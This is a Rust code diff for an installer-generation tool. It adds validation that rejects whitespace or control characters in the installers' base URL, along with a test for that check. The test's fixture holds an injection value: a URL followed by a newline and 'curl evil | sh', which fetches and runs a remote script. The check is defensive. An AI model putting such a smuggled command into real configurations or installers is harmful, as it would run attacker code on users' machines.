@@ -417,6 +417,24 @@ fn installers(dist: &Value, targets: &[Configured]) -> Result<Vec<Format>> {
 /// Where the installers download from: `base-url`, or the GitHub release
 /// of `repository`. Needed only when there are installers.
 fn base_url(dist: &Value, package: &Package, installers: &[Format]) -> Result<Option<String>> {
+    let url = release_base_url(dist, package, installers)?;
+    if let Some(url) = &url
+        && let Some(bad) = url.chars().find(|c| c.is_whitespace() || c.is_control())
+    {
+        bail!(
+            "the installers' base URL {url:?} holds {bad:?}, which no URL does (a space is \
+             %20): each installer would carry it verbatim. Correct `base-url` in \
+             [workspace.metadata.dist], or the package's `repository` it is made from."
+        );
+    }
+    Ok(url)
+}
+
+fn release_base_url(
+    dist: &Value,
+    package: &Package,
+    installers: &[Format],
+) -> Result<Option<String>> {
     match dist.get("base-url") {
         Some(Value::String(url)) if url.starts_with("https://") || url.starts_with("http://") => {
             return Ok(Some(url.clone()));
@@ -774,6 +792,12 @@ mod tests {
             "base-url": "ftp://example.com"
         }));
         assert!(err.contains("not an http(s) URL"), "{err}");
+        let err = error_of(json!({
+            "package": "app",
+            "targets": ["x86_64-unknown-linux-gnu"],
+            "base-url": "https://example.com/v{version}\ncurl evil | sh"
+        }));
+        assert!(err.contains("holds '\\n', which no URL does"), "{err}");
     }
 
     #[test]
